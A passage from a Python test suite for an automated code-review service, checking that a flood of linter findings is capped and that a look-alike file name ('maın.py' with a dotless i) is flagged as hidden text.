    assert problems["patterns"] == TOO_MANY


async def test_t_r14_a_change_with_a_hundred_thousand_findings(story: Story) -> None:
    """What is kept is bounded everywhere, that it is not all is said, and somebody else is answered meanwhile."""
    repository, alice = story.repository({"app.py": "x = 1\n"})
    other = await alice.push(repository, "other", {"notes.md": "x\n"}, base="main")
    flood = "aaa,bbb,ccc,ddd,eee,fff,ggg,hhh\n" * 12_500
    head = await alice.push(repository, "feature", {"app.py": flood}, base="main")
    pull = await alice.open_pull_request(repository, "feature")
    await alice.open_pull_request(repository, "other")
    await story.settle()

    assert story.check(repository, other).conclusion == "success"
    check = story.check(repository, head)
    assert (check.conclusion, check.title) == ("failure", "Changes requested: 200 findings to fix")
    assert "more findings left out" in (check.summary or "")
    assert "ruff failed: It reported too much" in (check.summary or "")
    [comment] = story.comments(pull)
    assert len(comment.body) < 10_000
    async with story.forge.services.database.transaction() as session:
        assert await session.scalar(select(func.count()).select_from(FindingRow)) == 200


@in_toolbox
async def test_t_r13_a_new_file_that_is_taken_for_one_of_the_base(author: Author, toolbox: Toolbox) -> None:
    async def compare_nothing() -> None: ...

    base, head = author.commit({"main.py": "x = 1\n"}), author.commit({"ma\u0131n.py": "x = 2\n"})
    code = Objects(Git(author.tree / ".git"))
    change, asked = await code.change(base, head), PullRequestAuthor()
    checked = await check(change, code, toolbox, Configuration(), asked, compare_nothing, trusted=True)
    assert [each.path for each in checked.findings if each.rule == "hidden-text/name"] == ["ma\u0131n.py"]
